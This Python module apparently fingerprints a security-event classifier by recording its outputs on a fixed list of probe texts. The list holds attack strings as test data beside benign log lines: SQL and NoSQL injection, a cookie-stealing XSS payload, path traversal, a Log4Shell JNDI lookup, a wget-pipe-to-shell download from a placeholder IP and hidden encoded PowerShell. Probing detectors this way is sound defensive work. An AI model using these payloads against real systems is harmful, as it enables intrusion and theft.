"""Tell a full model by what it answers: a small set of texts, fixed for all versions, of every domain."""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from overproof.checks.report.proof import FullModelIdentity
from overproof.distillation.teachers.interface import Teacher, TeacherCard
from overproof.inference.cascade import Full
from overproof.inference.cascade.full import aligned
from overproof.jobs.full_model import reserve

# Attacks and benign events side by side, and texts that no model was taught: two models agree on what is plain, and
# part where it is not. A change to any of them makes every check.json a proof of something else.
PROBES = (
    "id=1' or 1=1--",
    "q=blue+shoes&page=2",
    "<img src=x onerror=alert(document.cookie)>",
    "../../../../etc/passwd%00.png",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "; wget http://203.0.113.9/x.sh -O- | sh",
    "tar czf backup.tgz /home/ana/projects && echo done",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "198.51.100.23 GET /wp-login.php?redirect_to=%2Fwp-admin%2F HTTP/1.1 404 python-requests/2.31",
    "sshd[2231]: Failed password for invalid user admin from 203.0.113.77 port 51234 ssh2",
    "systemd[1]: Started Daily apt upgrade and clean activities.",
    "proto=tcp service=http conn_state=SF orig_bytes=2^10 resp_bytes=2^14 duration=2^1",
    "proto=udp service=dns query=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbA.example.net type=TXT rcode=NOERROR",
    "The parcel will arrive on Tuesday; please leave it with the neighbours at number 14.",
    '{"user": {"$ne": null}, "password": {"$gt": ""}}',
    "\u0645\u0631\u062d\u0628\u0627 \u65e5\u672c\u8a9e \x7f\u00ff 0x90909090 AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
)
DECIMALS = 6


def identity_of(full: Full, classes: Sequence[str], card: TeacherCard | None = None) -> FullModelIdentity:
    """Ask a full model about the probe texts.

    Parameters
    ----------
    classes
        The bundle's, in whose order the answers are kept.
    card
        The teacher's; without one there is no fingerprint.

    Raises
    ------
    InputError
        Classes that the bundle lacks.
    FullDown
        It does not answer, or with what are no probabilities.
    """
    answers = np.asarray(aligned(full, classes).ask(PROBES), dtype=np.float64)
    rounded = tuple(tuple(round(float(p), DECIMALS) for p in row) for row in answers)
    if card is None:
        return FullModelIdentity("callable", full.model, None, rounded)
    return FullModelIdentity(card.kind, card.name, card.fingerprint, rounded)


def identity_of_teacher(teacher: Teacher, classes: Sequence[str]) -> FullModelIdentity:
    """Do as `identity_of` with a teacher; soft labels that were computed elsewhere have no answers."""
    if not teacher.labels_new_events:
        return FullModelIdentity(teacher.card.kind, teacher.card.name, teacher.card.fingerprint, None)
    return identity_of(reserve(teacher), classes, teacher.card)
